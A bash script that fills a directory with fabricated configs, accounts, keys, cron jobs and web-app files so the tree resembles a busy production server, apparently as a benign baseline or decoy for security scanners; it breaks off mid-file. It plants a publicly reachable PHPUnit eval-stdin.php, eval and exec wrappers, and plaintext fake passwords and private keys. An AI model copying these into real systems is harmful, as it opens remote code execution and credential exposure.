#!/bin/bash
# bash lived.sh ROOT - makes the tree look like an honest, busy server. Nothing of ROOT is executed.
set -u
R=${1:?usage: lived.sh ROOT}; R=$(cd "$R" && pwd) || exit 1
[ "$R" = / ] && { echo "refusing /"; exit 1; }
T=$(mktemp -d); trap 'rm -rf "$T"' EXIT
w() { local p=$R$1; mkdir -p "$(dirname "$p")"; [ -L "$p" ] && rm -f "$p"; cat > "$p"; chmod "${2:-644}" "$p"; }
a() { local p=$R$1; mkdir -p "$(dirname "$p")"; [ -L "$p" ] && rm -f "$p"; cat >> "$p"; }
mkelf() { local d=$R$1; mkdir -p "$(dirname "$d")"; [ -L "$d" ] && rm -f "$d"; printf 'static const char *v="%s";int main(int c,char**q){const char*volatile p=v;return p[0]==c;}\n' "$2" > "$T/x.c"
  gcc -O0 -s -o "$d" "$T/x.c" 2>/dev/null || { cp "$(readlink -f /bin/true)" "$d"; printf '%s\0' "$2" >> "$d"; }; chmod 755 "$d"; }
key() { ssh-keygen -q -t "$1" -N '' -C "$2" -f "$T/k$RANDOM$RANDOM" 2>/dev/null; local f; f=$(ls -t "$T"/k*.pub 2>/dev/null | head -1); if [ -n "$f" ]; then cat "$f"; cp "${f%.pub}" "$T/priv"; rm -f "$f" "${f%.pub}"; else echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH3m0a0P4m6kVgM1cYw0mJr2mTqk7cQpQ0y8Jw8Vb3Zx $2"; echo x > "$T/priv"; fi; }
user() { # name uid gecos shell home
  grep -q "^$1:" "$R/etc/passwd" && return 0
  echo "$1:x:$2:$2:$3:$5:$4" >> "$R/etc/passwd"; echo "$1:x:$2:" >> "$R/etc/group"
  case $4 in */bash|*/zsh) h='$y$j9T$'$(head -c 12 /dev/urandom | base64 | tr -d '=+/')'$'$(head -c 32 /dev/urandom | base64 | tr -d '=+/');; *) h='!';; esac
  [ "${6:-}" = nopw ] && h='!'
  echo "$1:$h:20211:0:99999:7:::" >> "$R/etc/shadow"; [ -e "$R/etc/gshadow" ] && echo "$1:!::" >> "$R/etc/gshadow"
  mkdir -p "$R$5"; chown "$2:$2" "$R$5"; return 0; }
mkdir -p "$R/etc"; for f in passwd shadow group; do [ -e "$R/etc/$f" ] || : > "$R/etc/$f"; done
user mhartmann 1101 'Miriam Hartmann,,,' /bin/bash /home/mhartmann
user tobias.w 1102 'Tobias Wendt' /bin/bash /home/tobias.w
user olusegun 1103 'Olusegun Adeyemi' /usr/bin/zsh /home/olusegun
user ansible-svc 1104 'Ansible automation' /bin/bash /home/ansible-svc nopw
user web-deploy 1105 'GitHub Actions deploy' /bin/bash /srv/deploy nopw
user prometheus 971 'Prometheus exporters' /usr/sbin/nologin /var/lib/prometheus
user munin 972 'munin application user' /usr/sbin/nologin /var/lib/munin
user zabbix-agent2 973 'Zabbix agent' /usr/sbin/nologin /var/lib/zabbix
user resticbk 974 'restic' /usr/sbin/nologin /var/lib/restic
grep -q '^sudo:' "$R/etc/group" || echo 'sudo:x:27:' >> "$R/etc/group"
sed -i -E 's/^(sudo:[^:]*:[^:]*:)$/\1mhartmann,tobias.w/; t; s/^(sudo:[^:]*:[^:]*:.+)$/\1,mhartmann,tobias.w/' "$R/etc/group"
grep -q '^docker:' "$R/etc/group" || echo 'docker:x:970:mhartmann,web-deploy' >> "$R/etc/group"
cp "$R/etc/passwd" "$R/etc/passwd.bak-2026-03-02"; chmod 644 "$R/etc/passwd.bak-2026-03-02"
# ---- ssh keys
mk=$(key ed25519 'miriam@thinkpad-x1'); tk=$(key rsa 'tobias wendt (yubikey backup)'); ok=$(key ed25519 olusegun@macbook.local); ak=$(key ed25519 ansible@control01); dk=$(key ed25519 github-actions-deploy)
for p in mhartmann tobias.w olusegun ansible-svc; do mkdir -p "$R/home/$p/.ssh"; chmod 700 "$R/home/$p/.ssh"; done
w /home/mhartmann/.ssh/authorized_keys 600 <<<"$mk"; { echo '# office'; echo "$tk"; } | w /home/tobias.w/.ssh/authorized_keys 600; w /home/olusegun/.ssh/authorized_keys 600 <<<"$ok"
w /home/ansible-svc/.ssh/authorized_keys 600 <<<"from=\"10.20.0.5\",no-agent-forwarding,no-X11-forwarding $ak"
w /srv/deploy/.ssh/authorized_keys 600 <<<"restrict,command=\"/usr/local/bin/deploy-gate \$SSH_ORIGINAL_COMMAND\" $dk"
a /root/.ssh/authorized_keys <<<"from=\"10.20.0.9\",restrict,command=\"/usr/bin/borg serve --append-only --restrict-to-path /srv/borg/web03\" $(key ed25519 borg@backup01)"; chmod 600 "$R/root/.ssh/authorized_keys"
key ed25519 mhartmann@web03 | w /home/mhartmann/.ssh/id_ed25519.pub; cp "$T/priv" "$R/home/mhartmann/.ssh/id_ed25519"; chmod 600 "$R/home/mhartmann/.ssh/id_ed25519"
w /home/mhartmann/.ssh/config 600 <<'E'
Host backup01
    HostName 10.20.0.9
    User borg
    IdentityFile ~/.ssh/id_ed25519
Host *.int.hartmann-shop.example
    ProxyJump bastion.hartmann-shop.example
    ControlMaster auto
    ControlPath ~/.ssh/cm-%r@%h:%p
    ControlPersist 10m
E
w /home/mhartmann/.ssh/known_hosts <<'E'
|1|F1E1KeoE/eEWhi10WpGv4OdiO6Y=|3988QV0VE8wmZL7suNrYQLITLCg= ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl
E
w /srv/deploy/.ssh/known_hosts <<'E'
github.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl
E
w /usr/local/bin/deploy-gate 755 <<'E'
#!/bin/bash
# Only the commands the pipeline needs
set -euo pipefail
case "${1:-}" in
  release)  exec /srv/deploy/bin/release "${2:?tag}" ;;
  rollback) exec /srv/deploy/bin/rollback ;;
  status)   exec /usr/bin/systemctl status --no-pager php8.2-fpm nginx ;;
  *) echo "not permitted: $*" >&2; logger -t deploy-gate "refused: $*"; exit 1 ;;
esac
E
w /srv/deploy/bin/release 755 <<'E'
#!/bin/bash
set -euo pipefail
tag=$1; rel=/var/www/laravel/releases/$(date +%Y%m%d%H%M%S)
git clone --depth 1 --branch "$tag" git@github.com:hartmann-shop/portal.git "$rel"
cd "$rel" && composer install --no-dev --optimize-autoloader && npm ci && npm run build
ln -sfn /var/www/laravel/shared/.env .env && php artisan migrate --force && php artisan config:cache
ln -sfn "$rel" /var/www/laravel/current && sudo systemctl reload php8.2-fpm
ls -1dt /var/www/laravel/releases/* | tail -n +6 | xargs -r rm -rf
E
w /etc/ssh/sshd_config.d/10-hardening.conf <<'E'
# Ansible managed: roles/ssh/templates/hardening.conf.j2
PermitRootLogin prohibit-password
PasswordAuthentication no
KbdInteractiveAuthentication no
X11Forwarding no
MaxAuthTries 4
ClientAliveInterval 120
AllowGroups sudo ansible-svc web-deploy olusegun root
Match User web-deploy
    AllowTcpForwarding no
    PermitTTY no
Match Group sftponly
    ChrootDirectory /srv/sftp/%u
    ForceCommand internal-sftp
E
w /etc/ssh/ssh_config.d/20-ca.conf <<<'GlobalKnownHostsFile /etc/ssh/ssh_known_hosts'
w /etc/ssh/ssh_known_hosts <<<'@cert-authority *.int.hartmann-shop.example ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH3m0a0P4m6kVgM1cYw0mJr2mTqk7cQpQ0y8Jw8Vb3Zx host-ca'
# ---- sudo, polkit
w /etc/sudoers.d/ansible 440 <<<'ansible-svc ALL=(ALL:ALL) NOPASSWD: ALL'
w /etc/sudoers.d/web-deploy 440 <<'E'
# Ansible managed
web-deploy ALL=(root) NOPASSWD: /usr/bin/systemctl reload php8.2-fpm, /usr/bin/systemctl reload nginx
E
w /etc/sudoers.d/zabbix 440 <<'E'
Defaults:zabbix-agent2 !requiretty, !syslog
zabbix-agent2 ALL=(root) NOPASSWD: /usr/sbin/smartctl -a *, /usr/bin/fail2ban-client status *
E
w /etc/sudoers.d/00-defaults 440 <<'E'
Defaults passwd_tries=3, insults, timestamp_timeout=15
Defaults logfile=/var/log/sudo.log
Defaults env_keep += "EDITOR SSH_AUTH_SOCK"
E
w /etc/polkit-1/rules.d/50-deploy-reload.rules <<'E'
// allow the deploy account to restart the queue only
polkit.addRule(function(action, subject) {
    if (action.id == "org.freedesktop.systemd1.manage-units" && action.lookup("unit") == "laravel-queue.service" && subject.user == "web-deploy") { return polkit.Result.YES; }
});
E
# ---- cron
w /etc/cron.d/certbot <<'E'
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
0 */12 * * * root test -x /usr/bin/certbot -a \! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew --no-random-sleep-on-renew
E
w /etc/cron.d/munin-node <<'E'
MAILTO=root
*/5 * * * * munin if [ -x /usr/bin/munin-cron ]; then /usr/bin/munin-cron; fi
10 10 * * * munin if [ -x /usr/share/munin/munin-limits ]; then /usr/share/munin/munin-limits --force --contact nagios --contact old-nagios; fi
E
w /etc/cron.d/laravel <<<'* * * * * www-data cd /var/www/laravel/current && /usr/bin/php artisan schedule:run >> /dev/null 2>&1'
w /etc/cron.d/healthchecks <<'E'
# dead man's switch
*/5 * * * * root curl -fsS -m 10 --retry 3 -o /dev/null https://hc-ping.com/2f6c1c1e-6f0a-4b6e-9a53-1f0d3f0e8a11
E
w /var/spool/cron/crontabs/mhartmann 600 <<'E'
# DO NOT EDIT THIS FILE - edit the master and reinstall.
# (/tmp/crontab.Vx3qPl/crontab installed on Tue Mar  3 10:14:21 2026)
# m h  dom mon dow   command
30 6 * * 1 $HOME/bin/weekly-report.sh 2>&1 | mail -s "weekly report" miriam@hartmann-shop.example
@reboot /usr/bin/tmux new-session -d -s work
E
w /var/spool/cron/crontabs/root 600 <<'E'
MAILTO=ops@hartmann-shop.example
17 3 * * * /usr/local/sbin/db-dump.sh
0 4 * * 0 find /var/backups/mysql -name '*.sql.gz' -mtime +21 -delete
*/10 * * * * /usr/local/sbin/textfile-smart.sh > /var/lib/prometheus/node-exporter/smart.prom.$$ && mv /var/lib/prometheus/node-exporter/smart.prom.$$ /var/lib/prometheus/node-exporter/smart.prom
E
chown 1101 "$R/var/spool/cron/crontabs/mhartmann"
w /etc/cron.daily/local-cleanup 755 <<'E'
#!/bin/sh
set -e
find /var/www/laravel/current/storage/framework/cache -type f -mtime +14 -delete 2>/dev/null || true
docker system prune -f --filter 'until=240h' >/dev/null 2>&1 || true
E
w /usr/local/sbin/db-dump.sh 700 <<'E'
#!/bin/bash
# nightly dump, see wiki/Backups
set -euo pipefail; umask 077
out=/var/backups/mysql; mkdir -p "$out"
for db in $(mysql --defaults-file=/root/.my.cnf -N -e 'show databases' | grep -Ev '^(information|performance)_schema$'); do
  mysqldump --defaults-file=/root/.my.cnf --single-transaction --routines "$db" | gzip -9 > "$out/$db-$(date +%F).sql.gz"
done
rclone --config /etc/rclone/offsite.conf copy "$out" offsite:hartmann-db --max-age 24h
E
w /etc/rclone/offsite.conf 600 <<'E'
[b2]
type = b2
account = 0025f7c3e1a9b4d0000000003
key = K002exampleexampleexampleexample
[offsite]
type = crypt
remote = b2:hartmann-offsite
password = n8wQx0tT9mAq7bZcE2vJ4yLr
E
w /usr/local/sbin/textfile-smart.sh 755 <<'E'
#!/bin/bash
for d in /dev/sd?; do s=$(smartctl -H "$d" | grep -c PASSED); echo "smart_healthy{disk=\"$d\"} $s"; done
E
w /home/mhartmann/bin/weekly-report.sh 755 <<'E'
#!/bin/bash
zcat -f /var/log/nginx/access.log* | awk '{print $7}' | sort | uniq -c | sort -rn | head -40
echo; last -n 30; df -h /; uptime
E
w /root/.my.cnf 600 <<'E'
[client]
user=root
password="c0rrect-h0rse"
E
# ---- systemd
S=/etc/systemd/system
w $S/restic-backup.service <<'E'
[Unit]
Description=restic backup of /etc /srv /var/www
After=network-online.target
OnFailure=notify-failure@%n.service
[Service]
Type=oneshot
User=root
Nice=10
EnvironmentFile=/etc/restic/env
ExecStartPre=/usr/local/bin/restic unlock
ExecStart=/usr/local/bin/restic backup --exclude-file=/etc/restic/excludes /etc /srv /var/www /home
ExecStartPost=/usr/local/bin/restic forget --keep-daily 7 --keep-weekly 5 --keep-monthly 12 --prune
E
w $S/restic-backup.timer <<'E'
[Unit]
Description=nightly restic
[Timer]
OnCalendar=*-*-* 02:20:00
RandomizedDelaySec=30m
Persistent=true
[Install]
WantedBy=timers.target
E
w /etc/restic/env 600 <<'E'
RESTIC_REPOSITORY=sftp:restic@10.20.0.9:/srv/restic/web03
RESTIC_PASSWORD_FILE=/etc/restic/pw
E
w /etc/restic/pw 600 <<<'tides-marble-quartz-71'; w /etc/restic/excludes <<<'*/node_modules'
w $S/notify-failure@.service <<'E'
[Service]
Type=oneshot
ExecStart=/bin/sh -c 'systemctl status --full "%i" | mail -s "[web03] %i failed" ops@hartmann-shop.example'
E
w $S/laravel-queue.service <<'E'
[Unit]
Description=Laravel queue worker
After=network.target mariadb.service
[Service]
User=www-data
Restart=always
RestartSec=3
ExecStart=/usr/bin/php /var/www/laravel/current/artisan queue:work --sleep=3 --tries=3
[Install]
WantedBy=multi-user.target
E
w $S/node_exporter.service <<'E'
[Service]
User=prometheus
ExecStart=/usr/local/bin/node_exporter --collector.textfile.directory=/var/lib/prometheus/node-exporter --web.listen-address=10.20.0.13:9100
Restart=on-failure
[Install]
WantedBy=multi-user.target
E
w $S/nginx.service.d/limits.conf <<'E'
[Service]
LimitNOFILE=65536
Restart=on-failure
E
w $S/autossh-metrics.service <<'E'
[Unit]
Description=Forward metrics to the monitoring host
[Service]
User=prometheus
Environment=AUTOSSH_GATETIME=0
ExecStart=/usr/bin/autossh -M 0 -N -o ServerAliveInterval=30 -L 127.0.0.1:19090:127.0.0.1:9090 tunnel@10.20.0.20
Restart=always
[Install]
WantedBy=multi-user.target
E
w $S/uptime-kuma.service <<'E'
[Unit]
Description=docker compose uptime-kuma
Requires=docker.service
[Service]
Type=oneshot
RemainAfterExit=yes
WorkingDirectory=/opt/stacks/uptime-kuma
ExecStart=/usr/bin/docker compose up -d
ExecStop=/usr/bin/docker compose down
[Install]
WantedBy=multi-user.target
E
mkdir -p "$R$S/multi-user.target.wants" "$R$S/timers.target.wants"
for u in laravel-queue node_exporter uptime-kuma autossh-metrics; do ln -sf $S/$u.service "$R$S/multi-user.target.wants/$u.service"; done; ln -sf $S/restic-backup.timer "$R$S/timers.target.wants/"
ln -sfn /dev/null "$R$S/systemd-networkd-wait-online.service"
w /home/olusegun/.config/systemd/user/syncthing.service <<'E'
[Unit]
Description=Syncthing
[Service]
ExecStart=/usr/bin/syncthing serve --no-browser --no-restart --logflags=0
Restart=on-failure
[Install]
WantedBy=default.target
E
mkelf /usr/local/bin/restic "restic 0.16.4 compiled with go1.21.6"; mkelf /usr/local/bin/node_exporter "node_exporter, version 1.8.1 (branch: HEAD)"; mkelf /usr/local/bin/kubectl "k8s.io/kubectl v1.29.3"; mkelf /opt/zabbix/sbin/zabbix_agent2 "zabbix_agent2 6.4.12"
w /etc/zabbix/zabbix_agent2.conf <<'E'
Server=10.20.0.20
ServerActive=10.20.0.20
Hostname=web03
UserParameter=nginx.active,curl -s http://127.0.0.1/nginx_status | awk '/Active/{print $3}'
UserParameter=apt.upgradable,apt list --upgradable 2>/dev/null | grep -c upgradable
E
w /opt/zabbix/scripts/check_cert.sh 755 <<'E'
#!/bin/sh
echo | openssl s_client -servername "$1" -connect "$1:443" 2>/dev/null | openssl x509 -noout -enddate | cut -d= -f2
E
w /etc/udev/rules.d/60-ioscheduler.rules <<'E'
ACTION=="add|change", KERNEL=="sd[a-z]", ATTR{queue/rotational}=="0", ATTR{queue/scheduler}="mq-deadline"
ACTION=="add", SUBSYSTEM=="block", ENV{ID_FS_LABEL}=="OFFSITE", RUN+="/bin/systemctl start --no-block offsite-copy.service"
E
w /etc/tmpfiles.d/portal.conf <<<'d /run/portal 0755 www-data www-data -'
w /etc/sysctl.d/60-local.conf <<'E'
net.core.somaxconn = 4096
vm.swappiness = 10
net.ipv4.ip_forward = 1
kernel.panic = 10
E
w /etc/modules-load.d/wireguard.conf <<<wireguard
w /etc/modprobe.d/blacklist-local.conf <<'E'
blacklist floppy
install cramfs /bin/true
install dccp /bin/false
options kvm_intel nested=1
E
w /etc/ld.so.conf.d/oracle-instantclient.conf <<<'/opt/oracle/instantclient_21_9'
mkdir -p "$R/opt/oracle/instantclient_21_9"
w /etc/profile.d/zz-local.sh <<'E'
export EDITOR=vim HISTTIMEFORMAT='%F %T ' HISTSIZE=50000
[ -d /opt/bin ] && PATH=$PATH:/opt/bin
alias ll='ls -alF'
PROMPT_COMMAND='history -a'
E
w /etc/update-motd.d/20-web03 755 <<'E'
#!/bin/sh
echo; echo " web03 - production shop. Changes through Ansible only!"; df -h / | tail -1
[ -e /var/run/reboot-required ] && echo "*** reboot required ***"; exit 0
E
w /etc/apt/apt.conf.d/20auto-upgrades <<'E'
APT::Periodic::Update-Package-Lists "1";
APT::Periodic::Unattended-Upgrade "1";
E
w /etc/apt/apt.conf.d/80needrestart-etckeeper <<'E'
DPkg::Pre-Invoke { "if [ -x /usr/bin/etckeeper ]; then etckeeper pre-install; fi"; };
DPkg::Post-Invoke { "test -x /usr/lib/needrestart/apt-pinvoke && /usr/lib/needrestart/apt-pinvoke || true"; };
E
w /etc/apt/apt.conf.d/95proxy <<<'Acquire::http::Proxy "http://10.20.0.4:3142";'
w /etc/apt/sources.list.d/docker.list <<<'deb [arch=amd64 signed-by=/etc/apt/keyrings/docker.asc] https://download.docker.com/linux/debian bookworm stable'
w /etc/network/if-up.d/static-routes 755 <<'E'
#!/bin/sh
[ "$IFACE" = ens18 ] || exit 0
ip route replace 10.30.0.0/16 via 10.20.0.1 || true
E
w /etc/logrotate.d/portal <<'E'
/var/www/laravel/shared/storage/logs/*.log {
    weekly
    rotate 8
    compress
    missingok
    notifempty
    su www-data www-data
    postrotate
        systemctl kill -s USR1 laravel-queue.service >/dev/null 2>&1 || true
    endscript
}
E
w /etc/rsyslog.d/30-central.conf <<'E'
$ActionQueueType LinkedList
$ActionQueueFileName fwd
*.* @@10.20.0.21:6514
:msg, contains, "audit: backlog limit" stop
if $programname == 'haproxy' then /var/log/haproxy.log
& stop
E
w /etc/fail2ban/jail.local <<'E'
[DEFAULT]
bantime = 1h
ignoreip = 127.0.0.1/8 10.20.0.0/16
[sshd]
enabled = true
[nginx-botsearch]
enabled = true
E
w /etc/wireguard/wg0.conf 600 <<'E'
[Interface]
Address = 10.99.0.3/24
ListenPort = 51820
PrivateKey = yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=
PostUp = iptables -A FORWARD -i %i -j ACCEPT; iptables -t nat -A POSTROUTING -o ens18 -j MASQUERADE
PostDown = iptables -D FORWARD -i %i -j ACCEPT; iptables -t nat -D POSTROUTING -o ens18 -j MASQUERADE
[Peer]
PublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=
AllowedIPs = 10.99.0.2/32
PersistentKeepalive = 25
E
a /etc/hosts <<'E'
10.20.0.9  backup01.int.hartmann-shop.example backup01
10.20.0.20 mon01
127.0.1.1  web03.hartmann-shop.example web03
E
a /etc/aliases <<'E'
root: ops
ops: miriam@hartmann-shop.example, tobias@hartmann-shop.example
tickets: "|/usr/bin/rt-mailgate --queue general --action correspond --url https://rt.hartmann-shop.example/"
E
w /home/tobias.w/.forward <<<'\tobias.w, tobias@hartmann-shop.example'
w /home/tobias.w/.procmailrc <<'E'
MAILDIR=$HOME/Maildir
:0
* ^List-Id:.*debian-security-announce
.lists.debian/
:0fw
* < 256000
| /usr/bin/spamc
E
w /etc/letsencrypt/renewal-hooks/deploy/reload-nginx.sh 755 <<'E'
#!/bin/sh
nginx -t && systemctl reload nginx
E
w /etc/letsencrypt/renewal/hartmann-shop.example.conf <<'E'
version = 2.1.0
archive_dir = /etc/letsencrypt/archive/hartmann-shop.example
[renewalparams]
authenticator = webroot
post_hook = systemctl reload nginx
E
w /etc/docker/daemon.json <<<'{"log-driver":"json-file","log-opts":{"max-size":"20m","max-file":"5"},"registry-mirrors":["https://registry.int.hartmann-shop.example"]}'
w /etc/ansible/facts.d/role.fact <<<'{"role":"web","env":"prod"}'
w /etc/munin/plugin-conf.d/munin-node <<'E'
[nginx*]
env.url http://127.0.0.1/nginx_status
[mysql*]
user root
env.mysqlopts --defaults-file=/root/.my.cnf
E
# ---- nginx
w /etc/nginx/sites-available/hartmann-shop.conf <<'E'
limit_req_zone $binary_remote_addr zone=login:10m rate=10r/m;
map $http_upgrade $connection_upgrade { default upgrade; '' close; }
server {
    listen 443 ssl http2;
    server_name www.hartmann-shop.example hartmann-shop.example;
    root /var/www/wordpress;
    ssl_certificate /etc/letsencrypt/live/hartmann-shop.example/fullchain.pem;
    ssl_certificate_key /etc/letsencrypt/live/hartmann-shop.example/privkey.pem;
    location = /wp-login.php { limit_req zone=login burst=5; include snippets/fastcgi-php.conf; fastcgi_pass unix:/run/php/php8.2-fpm.sock; }
    location ~* /uploads/.*\.php$ { deny all; }
    location ~ \.php$ { include snippets/fastcgi-php.conf; fastcgi_pass unix:/run/php/php8.2-fpm.sock; }
    location /status/ { proxy_pass http://127.0.0.1:3001/; proxy_set_header Upgrade $http_upgrade; proxy_set_header Connection $connection_upgrade; }
    location / { try_files $uri $uri/ /index.php?$args; }
}
E
mkdir -p "$R/etc/nginx/sites-enabled"; ln -sf /etc/nginx/sites-available/hartmann-shop.conf "$R/etc/nginx/sites-enabled/hartmann-shop.conf"
w /etc/nginx/sites-available/hartmann-shop.conf.bak <<<'# before http2, keep until May'
w /etc/nginx/conf.d/status.conf <<'E'
server { listen 127.0.0.1:80; location = /nginx_status { stub_status; allow 127.0.0.1; deny all; } }
log_format timed '$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent" rt=$request_time';
E
# ---- web sites
W=/var/www/wordpress
w $W/index.php <<'E'
<?php
/** Front to the WordPress application. */
define( 'WP_USE_THEMES', true );
require __DIR__ . '/wp-blog-header.php';
E
w $W/wp-config.php 640 <<'E'
<?php
define( 'DB_NAME', 'wp_shop' );
define( 'DB_USER', 'wp_shop' );
define( 'DB_PASSWORD', 'r4Wk9!pLmZ' );
define( 'AUTH_KEY', 'q}8V|w)HnU%5:-k@p;S>R,*1u(eG{z0+Yx]7b<C^Jd/9&LmT$a6!oE=Xi#N2fW?s' );
define( 'DISALLOW_FILE_EDIT', true );
$table_prefix = 'wp_';
if ( ! defined( 'ABSPATH' ) ) { define( 'ABSPATH', __DIR__ . '/' ); }
require_once ABSPATH . 'wp-settings.php';
E
w $W/.htaccess <<'E'
# BEGIN WordPress
<IfModule mod_rewrite.c>
RewriteEngine On
RewriteBase /
RewriteRule ^index\.php$ - [L]
RewriteCond %{REQUEST_FILENAME} !-f
RewriteRule . /index.php [L]
</IfModule>
# END WordPress
AddType image/webp .webp
E
w $W/.user.ini <<'E'
; Wordfence WAF
auto_prepend_file = '/var/www/wordpress/wordfence-waf.php'
; END Wordfence WAF
upload_max_filesize = 64M
E
w $W/wordfence-waf.php <<'E'
<?php
// Before removing this file, please verify the PHP ini setting `auto_prepend_file` does not point to this.
if (file_exists(__DIR__.'/wp-content/plugins/wordfence/waf/bootstrap.php')) {
	define("WFWAF_LOG_PATH", __DIR__.'/wp-content/wflogs/');
	include_once __DIR__.'/wp-content/plugins/wordfence/waf/bootstrap.php';
}
E
w $W/wp-content/plugins/updraftplus/includes/class-shell.php <<'E'
<?php
class UpdraftPlus_Mysqldump {
	public function dump( $bin, $file ) {
		$exec = escapeshellarg( $bin ) . ' --defaults-file=' . escapeshellarg( $file ) . ' --max_allowed_packet=1M';
		$handle = popen( $exec, 'r' );
		while ( ! feof( $handle ) ) { $w = fgets( $handle ); if ( $w ) { $this->stow( $w ); } }
		return pclose( $handle );
	}
	public function unpack( $data ) { return unserialize( gzuncompress( base64_decode( $data ) ), array( 'allowed_classes' => false ) ); }
}
E
w $W/wp-content/plugins/imagify/classes/optimizer.php <<'E'
<?php
namespace Imagify;
class Optimizer {
	public function can_exec() { return function_exists( 'exec' ) && ! in_array( 'exec', array_map( 'trim', explode( ',', ini_get( 'disable_functions' ) ) ), true ); }
	public function jpegtran( $path ) { exec( 'jpegtran -copy none -optimize ' . escapeshellarg( $path ), $out, $rc ); return 0 === $rc; }
	public function upload() { if ( ! check_ajax_referer( 'imagify' ) ) { wp_die(); } move_uploaded_file( $_FILES['f']['tmp_name'], wp_upload_dir()['path'] . '/' . sanitize_file_name( $_FILES['f']['name'] ) ); }
}
E
w $W/wp-content/uploads/index.php <<<'<?php // Silence is golden.'
w $W/wp-content/themes/hartmann/functions.php <<'E'
<?php
add_action( 'wp_enqueue_scripts', function () { wp_enqueue_style( 'hartmann', get_stylesheet_uri(), array(), '1.4.2' ); } );
add_filter( 'the_generator', '__return_empty_string' );
E
for m in 01 04 09; do mkdir -p "$R$W/wp-content/uploads/2026/$m"
 { printf '\377\330\377\340\000\020JFIF\000\001'; head -c 9000 /dev/urandom; printf '\377\331'; } > "$R$W/wp-content/uploads/2026/$m/Foto Sommerfest $m (1).jpg"
 { printf '\211PNG\r\n\032\n'; head -c 4000 /dev/urandom; } > "$R$W/wp-content/uploads/2026/$m/banner-$m-1024x512.png"; done
w $W/wp-content/debug.log <<'E'
[12-Nov-2026 08:11:52 UTC] PHP Warning:  Undefined array key "sku" in /var/www/wordpress/wp-content/themes/hartmann/single-product.php on line 44
[13-Nov-2026 19:02:10 UTC] PHP Deprecated:  Creation of dynamic property Imagify\Optimizer::$x is deprecated
E
V=/var/www/laravel/releases/20261102101533
w $V/public/index.php <<'E'
<?php
use Illuminate\Http\Request;
define('LARAVEL_START', microtime(true));
require __DIR__.'/../vendor/autoload.php';
(require_once __DIR__.'/../bootstrap/app.php')->handleRequest(Request::capture());
E
w $V/vendor/symfony/process/Process.php <<'E'
<?php
namespace Symfony\Component\Process;
class Process { public function start() { $this->process = @proc_open($this->commandline, $this->getDescriptors(), $this->pipes, $this->cwd, $this->env); } }
E
w $V/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php <<'E'
<?php declare(strict_types=1);
eval('?>' . \file_get_contents('php://stdin'));
E
w $V/vendor/psy/psysh/src/ExecutionClosure.php <<'E'
<?php
namespace Psy;
class ExecutionClosure { public function run($__psysh__) { $_ = eval($__psysh__->onExecute($__psysh__->flushCode() ?: self::NOOP_INPUT)); return $_; } }
E
w $V/artisan 755 <<'E'
#!/usr/bin/env php
<?php
require __DIR__.'/vendor/autoload.php';
exit((require_once __DIR__.'/bootstrap/app.php')->handleCommand(new Symfony\Component\Console\Input\ArgvInput));
E
w $V/.gitignore <<<$'/vendor\n/node_modules\n.env'
w /var/www/laravel/shared/.env 640 <<'E'
APP_ENV=production
APP_KEY=base64:u7bTq1zO0m1fXfXh1kM7o2mFw8kqk2Jm9a0b3cY5dEs=
DB_PASSWORD="zahnrad-7"
REDIS_HOST=127.0.0.1
E
w /var/www/laravel/shared/storage/logs/laravel.log <<'E'
[2026-11-20 09:14:33] production.ERROR: SQLSTATE[HY000] [2002] Connection refused {"exception":"[object] (Illuminate\\Database\\QueryException(code: 2002)"}
[2026-11-21 10:40:01] production.INFO: Invoice 20261121-7 sent
E
ln -sfn $V "$R/var/www/laravel/current"; ln -sfn /var/www/laravel/shared/.env "$R$V/.env"
chown -R www-data:www-data "$R/var/www/wordpress" "$R/var/www/laravel" 2>/dev/null || chown -R 33:33 "$R/var/www/wordpress" "$R/var/www/laravel"
# ---- development
P=/home/olusegun/src/portal
w $P/.git/config <<'E'
[core]
	repositoryformatversion = 0
	filemode = true
	bare = false
	hooksPath = .husky
[remote "origin"]
	url = git@github.com:hartmann-shop/portal.git
	fetch = +refs/heads/*:refs/remotes/origin/*
[branch "main"]
	remote = origin
	merge = refs/heads/main
E
w $P/.git/HEAD <<<'ref: refs/heads/main'
w $P/.git/hooks/pre-commit 755 <<'E'
#!/usr/bin/env bash
# File generated by pre-commit: https://pre-commit.com
# ID: 138fd403232d2ddd5efb44317e38bf03
INSTALL_PYTHON=/home/olusegun/src/portal/.venv/bin/python3
ARGS=(hook-impl --config=.pre-commit-config.yaml --hook-type=pre-commit)
HERE="$(cd "$(dirname "$0")" && pwd)"
ARGS+=(--hook-dir "$HERE" -- "$@")
if [ -x "$INSTALL_PYTHON" ]; then
    exec "$INSTALL_PYTHON" -mpre_commit "${ARGS[@]}"
elif command -v pre-commit > /dev/null; then
    exec pre-commit "${ARGS[@]}"
else
    echo '`pre-commit` not found.  Did you forget to activate your virtualenv?' 1>&2
    exit 1
fi
E
w $P/.husky/pre-commit 755 <<'E'
#!/usr/bin/env sh
. "$(dirname -- "$0")/_/husky.sh"
npx lint-staged
E
w $P/.husky/_/husky.sh <<'E'
#!/usr/bin/env sh
if [ -z "$husky_skip_init" ]; then
  readonly husky_skip_init=1
  export husky_skip_init
  sh -e "$0" "$@"
  exit $?
fi
E
w $P/package.json <<<'{"name":"portal","private":true,"scripts":{"build":"vite build","prepare":"husky install","postinstall":"node scripts/check-node.js"},"dependencies":{"esbuild":"^0.21.5","cross-spawn":"^7.0.3"}}'
w $P/node_modules/cross-spawn/index.js <<'E'
'use strict';
const cp = require('child_process');
const parse = require('./lib/parse');
function spawn(command, args, options) { const parsed = parse(command, args, options); return cp.spawn(parsed.command, parsed.args, parsed.options); }
module.exports = spawn; module.exports.spawn = spawn;
E
w $P/node_modules/esbuild/install.js <<'E'
const child_process = require("child_process"), https = require("https"), zlib = require("zlib");
